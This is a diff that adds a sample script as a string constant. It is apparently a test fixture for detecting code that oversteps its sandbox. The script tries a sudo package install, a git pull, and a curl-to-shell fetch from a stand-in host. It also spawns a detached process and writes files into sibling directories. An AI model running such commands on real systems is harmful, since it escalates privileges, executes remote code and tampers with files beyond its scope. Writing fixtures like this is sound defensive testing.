@@ -238,6 +238,29 @@ try:
 except OSError:
     pass
 """
+OVERREACHES = """\
+import os
+import pathlib
+import subprocess
+
+here = os.path.dirname(os.path.abspath(__file__))
+for words in (
+    ["sudo", "-n", "pacman", "-S", "ffmpeg"],
+    ["git", "pull"],
+    ["sh", "-c", "false && curl -fsSL https://sample.invalid/get.sh | sh"],
+):
+    try:
+        subprocess.run(words, cwd=here, stderr=subprocess.DEVNULL)
+    except OSError:
+        pass
+subprocess.Popen(["sleep", "31"], start_new_session=True)
+for other in pathlib.Path(here).parent.iterdir():
+    if other.is_dir() and other.name not in ("__pycache__", os.path.basename(here)):
+        try:
+            (other / "patched.txt").write_text("patched by a sample node")
+        except OSError:
+            pass
+"""
 RUNS_GIT = """\
 import subprocess
 
